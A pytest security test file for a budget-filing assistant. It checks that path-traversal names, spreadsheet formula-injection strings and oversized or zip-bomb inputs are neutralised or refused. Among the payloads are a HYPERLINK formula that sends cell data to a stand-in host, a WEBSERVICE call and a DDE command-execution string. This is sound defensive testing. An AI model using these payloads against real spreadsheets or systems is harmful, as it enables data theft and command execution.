"""Every case an attacker or a careless user tried, replayed: path traversal, formula injection,
unbounded files, one bad file in a batch, LLM faults, silent damage. (Concurrent writers to the
store are in test_hostile_store.py.)"""

from __future__ import annotations

import json
import os
import shutil
import stat
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from assistant.atomic import FileExists, path_inside, safe_filename, write_atomically
from assistant.cli import main
from assistant.config import InputLimits
from assistant.draft import Brief
from assistant.draft.service import draft
from assistant.errors import ExportError, IngestError
from assistant.export.xlsx import write_xlsx
from assistant.index import HashingEmbedder, open_index
from assistant.ingest import read_filing
from assistant.ingest.columns import is_placeholder
from assistant.ingest.grid import title_of
from assistant.llm import LLMClient, LLMSettings
from assistant.models import Comparator, DocKind, Indicator, Level2, Project
from assistant.normalize import clean, squash
from assistant.review import report
from assistant.review.engine import review_projects

from .builders import raw_xlsx, sheet_xml, zip_bomb
from .fake_llm import FakeLLM, Reply
from .test_llm_draft import BRIEF, good_rows

TRAVERSAL = "x/../../../escaped/pwned"


# --- 1. path traversal --------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        TRAVERSAL,
        "..",
        "../..",
        "/etc/passwd",
        "a\\..\\..\\b",
        ".hidden",
        "CON",
        "名称\x00带空字符",
        "很长" * 200,
        "  ",
        'a/b:c*d?e"f<g>h|i',
    ],
)
def test_a_typed_name_becomes_one_plain_file_inside_its_folder(tmp_path, name):
    made = safe_filename(name, ".xlsx")
    assert "/" not in made and "\\" not in made and ".." not in made and not made.startswith(".")
    assert len(made) <= 80 + len(".xlsx")
    assert path_inside(tmp_path, made).parent == tmp_path.resolve()


def test_adding_a_draft_named_like_a_path_writes_inside_the_corpus(tmp_path):
    from assistant.config import Settings
    from assistant.core import Assistant
    from assistant.draft import Draft
    from assistant.draft.templates import template_row

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    helper = Assistant(Settings(corpus_dir=corpus, data_dir=tmp_path / "data"), embedder=HashingEmbedder(), llm=None)
    brief = Brief(name=TRAVERSAL, unit_name="测试局", amount=10, year=2025, goal="测试")
    draft_id = helper.store.create_draft(
        Draft(brief=brief, mode="offline", indicators=[template_row(Level2.QUANTITY, brief, 10)], findings=[]), "张会计"
    )
    row = helper.store.load_draft(draft_id).rows[0]
    helper.store.decide(draft_id, row.id, "accepted", "张会计")
    written = helper.finish(draft_id, "张会计")
    assert written.parent == corpus.resolve()
    assert not (tmp_path / "escaped").exists() and not (tmp_path.parent / "escaped").exists()
    assert read_filing(written).projects[0].name == TRAVERSAL  # the name itself is kept as data
    assert helper.store.load_draft(draft_id).status == "in_corpus"
    with pytest.raises(FileExists):  # a second add never replaces the first
        helper.finish(draft_id, "张会计")


def test_an_atomic_write_does_not_create_folders(tmp_path):
    with pytest.raises(ExportError, match="不存在"):
        write_atomically(tmp_path / "no" / "such" / "dir" / "x.txt", lambda p: p.write_text("x"))
    assert not (tmp_path / "no").exists()


# --- 2. formula injection -----------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n第二行",
    "＝全角等号",
    "正常文本",
    "a\x01b\x1fc",
]


def _hostile_project(texts: list[str]) -> Project:
    rows = [
        Indicator(
            level1=Level2.QUANTITY.level1,
            level2=Level2.QUANTITY,
            name=text,
            target=text,
            target_detail=text,
            scoring=text,
            unit="人",
            comparator=Comparator.GE,
            comparator_raw="≥",
            weight=10,
            note=text,
        )
        for text in texts
    ]
    return Project(
        doc_kind=DocKind.TARGET_TABLE,
        unit_name="=cmd|' /C calc'!A0",
        year=2025,
        name="=1+1项目",
        amount=10,
        goal="@恶意目标",
        indicators=rows,
    )


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [
            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def _as_imported(text: str | None) -> str | None:
    return clean(text) or None if text is not None else None


def test_hostile_cells_are_exported_as_text_and_import_back_unchanged(tmp_path):
    project = _hostile_project(HOSTILE)
    path = write_xlsx([project], tmp_path / "hostile.xlsx")
    assert _formulas(path) == []
    back = read_filing(path).projects[0]
    assert back.name == "=1+1项目" and back.unit_name == "=cmd|' /C calc'!A0" and back.goal == "@恶意目标"
    assert [i.name for i in back.indicators] == [_as_imported(t) for t in HOSTILE]
    assert [i.scoring for i in back.indicators] == [_as_imported(t) for t in HOSTILE]


def test_the_review_report_writes_hostile_text_as_text(tmp_path):
    project = _hostile_project(HOSTILE)
    path = report.write_xlsx([project], review_projects([project]), tmp_path / "审核意见.xlsx")
    assert _formulas(path) == []
    from openpyxl import load_workbook

    cells = [c.value for row in load_workbook(path)["审核意见"].iter_rows() for c in row]
    assert '=HYPERLINK("http://evil.example/?"&A1,"点击")' in cells


hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.builds(lambda p, t: p + t, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "＝"]), st.text(max_size=40)),
    st.text(min_size=1, max_size=200),
    st.just("很长的文本" * 700),
)


@pytest.mark.slow
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(hostile_text, min_size=1, max_size=4))
def test_any_text_survives_an_export_and_import(tmp_path, texts):
    # a row that says nothing (无, -) or closes the table (合计) is not an indicator row
    texts = [
        t
        for t in texts
        if not is_placeholder(clean(t)) and squash(t) not in ("合计", "总分") and not title_of(clean(t))
    ]
    if not texts:
        return
    project = _hostile_project(texts)
    path = write_xlsx([project], tmp_path / "prop.xlsx")
    assert _formulas(path) == []
    back = read_filing(path).projects[0]
    assert [i.target for i in back.indicators] == [_as_imported(t) for t in texts]
    assert [i.note for i in back.indicators] == [_as_imported(t) for t in texts]


def test_a_text_too_long_for_a_cell_is_refused_with_where_it_is(tmp_path):
    project = _hostile_project(["正常"])
    project.indicators[0].scoring = "长" * 40_000
    with pytest.raises(ExportError, match="评（扣）分标准"):
        write_xlsx([project], tmp_path / "long.xlsx")
    assert list(tmp_path.iterdir()) == []


# --- 4. unbounded input -------------------------------------------------------------------


@pytest.mark.slow
def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    bomb = zip_bomb(tmp_path / "bomb.xlsx", 300)
    assert bomb.stat().st_size < 2_000_000
    started = time.perf_counter()
    with pytest.raises(IngestError) as info:
        read_filing(bomb)
    assert time.perf_counter() - started < 5  # refused from the zip directory, not after unpacking
    assert "bomb.xlsx" in str(info.value) and "上限" in str(info.value)


def test_a_sheet_with_too_many_rows_is_refused_naming_the_limit_and_sheet(tmp_path):
    big = raw_xlsx(tmp_path / "rows.xlsx", {"明细": sheet_xml(6_000)})
    with pytest.raises(IngestError) as info:
        read_filing(big, InputLimits(max_rows=5_000))
    message = str(info.value)
    assert "rows.xlsx" in message and "明细" in message and "5000 行" in message and "第 5001 行" in message


def test_too_many_sheets_and_too_big_a_file_are_refused(tmp_path):
    many = raw_xlsx(tmp_path / "sheets.xlsx", {f"表{i}": b"<worksheet/>" for i in range(6)})
    with pytest.raises(IngestError, match="6 个工作表"):
        read_filing(many, InputLimits(max_sheets=5))
    text = tmp_path / "big.txt"
    text.write_text("x" * 3_000_000, encoding="utf-8")
    with pytest.raises(IngestError, match=r"3\.0 MB"):
        read_filing(text, InputLimits(max_file_mb=2))


def test_limits_come_from_the_environment_and_match_the_upload_limit():
    from assistant.config import Settings

    assert Settings.from_env({"ASSISTANT_MAX_ROWS": "123"}).limits.max_rows == 123
    config = (Path(__file__).resolve().parent.parent / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    assert f"maxUploadSize = {InputLimits().max_file_mb:g}" in config


def test_a_formula_cell_without_a_cached_value_is_refused_not_read_as_empty(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.title = "目标表"
    sheet.append(["三级指标", "指标值", "分值"])
    sheet.append(["培训人数", "100", "=10+10"])  # openpyxl saves formulas without their value
    book.save(tmp_path / "formula.xlsx")
    with pytest.raises(IngestError) as info:
        read_filing(tmp_path / "formula.xlsx")
    assert "C2" in str(info.value) and "公式" in str(info.value) and "第 2 行" in str(info.value)


# --- 5. one bad file in a batch -----------------------------------------------------------


@pytest.fixture
def mixed_folder(tmp_path, seed_paths):
    folder = tmp_path / "filings"
    folder.mkdir()
    shutil.copy(seed_paths["003"], folder / "003.txt")
    (folder / "bad.xlsx").write_bytes(b"not a zip at all")
    shutil.copy(seed_paths["001"], folder / ".hidden.txt")
    (folder / "old.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    return folder


@pytest.mark.parametrize(
    "command",
    [
        ["review", "--format", "xlsx", "--out"],
        ["export", "--out"],
    ],
)
def test_review_and_export_write_the_good_files_and_list_the_bad(mixed_folder, tmp_path, capsys, command):
    out = tmp_path / "out.xlsx"
    code = main([*command, str(out), str(mixed_folder)])
    err = capsys.readouterr().err
    assert code == 2 and out.exists()
    assert "bad.xlsx" in err and ".hidden.txt" in err and "隐藏文件" in err and "old.xls" in err
    assert read_filing(out).projects if command[0] == "export" else True


def test_ingest_lists_skipped_files_too(mixed_folder, capsys):
    assert main(["ingest", str(mixed_folder)]) == 2
    captured = capsys.readouterr()
    assert captured.out.count("\n") == len(read_filing(mixed_folder / "003.txt").projects)
    assert "跳过" in captured.err and ".hidden.txt" in captured.err


# --- 6. LLM faults ------------------------------------------------------------------------


def _client(fake: FakeLLM, timeout: float, retries: int = 2) -> LLMClient:
    return LLMClient(
        LLMSettings(base_url=fake.base_url, model="fake", timeout=timeout, max_retries=retries, repair_attempts=0)
    )


BODY = json.dumps(
    {
        "id": "x",
        "object": "chat.completion",
        "created": 0,
        "model": "fake",
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": json.dumps(good_rows(), ensure_ascii=False)},
                "finish_reason": "stop",
            }
        ],
    },
    ensure_ascii=False,
).encode()


@pytest.mark.parametrize(
    "reply",
    [
        Reply(raw_body=BODY[: len(BODY) // 2]),  # truncated JSON, honest length
        Reply(raw_body=BODY[: len(BODY) // 2], declared_length=len(BODY)),  # connection closed mid-body
        Reply(raw_body=b"<html>502 Bad Gateway</html>"),
        Reply(content='{"rows": "not a list"}'),  # wrong schema
        Reply(content="抱歉，我无法完成这个请求。"),  # prose, no JSON
        Reply(content="<think>先想一想"),  # a reasoning block that never closes
        Reply(refusal="I cannot help with that"),
    ],
)
def test_a_malformed_answer_ends_in_the_offline_draft_with_a_notice(index, fake, reply):
    fake.default = lambda body: reply
    result = draft(index, BRIEF, client=_client(fake, timeout=10))
    assert result.mode == "offline" and result.indicators
    assert any("离线起草" in n for n in result.notices)


@pytest.mark.slow
@pytest.mark.parametrize(
    "reply",
    [
        Reply(delay=30, content="{}"),  # hangs before answering
        Reply(raw_body=BODY, trickle=1.0),  # sends its body one byte a second
    ],
    ids=["hanging", "trickling"],
)
def test_one_deadline_covers_the_whole_call_and_the_notice_tells_it(index, fake, reply):
    fake.default = lambda body: reply
    started = time.perf_counter()
    result = draft(index, BRIEF, client=_client(fake, timeout=2, retries=3))
    took = time.perf_counter() - started
    assert result.mode == "offline"
    assert took < 2 * 2 + 3  # two structured calls at most (draft, revision) and the offline draft
    assert any("2 秒内没有完成" in n for n in result.notices)


# --- 7. silent damage ---------------------------------------------------------------------


def test_an_upload_with_an_existing_name_does_not_replace_the_file(tmp_path, monkeypatch):
    from assistant.ui import common

    class Upload:
        name = "000_seed.txt"
        size = 7

        def getvalue(self) -> bytes:
            return b"garbage"

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "000_seed.txt").write_text("原文件", encoding="utf-8")
    monkeypatch.setenv("ASSISTANT_CORPUS_DIR", str(corpus))
    with pytest.raises(FileExists):
        common.save_upload(Upload(), corpus)
    assert (corpus / "000_seed.txt").read_text(encoding="utf-8") == "原文件"
    common.save_upload(Upload(), corpus, overwrite=True)
    assert (corpus / "000_seed.txt").read_bytes() == b"garbage"


def test_written_files_get_normal_permissions(tmp_path, seeds):
    old = os.umask(0o022)
    try:
        path = write_xlsx(seeds["003"].projects, tmp_path / "perm.xlsx")
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o644


def test_an_interrupted_index_build_is_not_called_an_embedder_change(tmp_path, seed_paths):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(seed_paths["003"], corpus)
    built = open_index(tmp_path / "data", embedder=HashingEmbedder())
    built.sync(corpus)
    vectors = built.vectors.collections["indicators"]
    vectors.delete(ids=vectors.get()["ids"][:5])  # as if the process died before these were written
    reopened = open_index(tmp_path / "data", embedder=HashingEmbedder())
    assert any("没有完成" in n for n in reopened.notices)
    assert not any("不一致" in n for n in reopened.notices)
    assert reopened.vectors.collections["indicators"].count() == reopened.count("indicators")
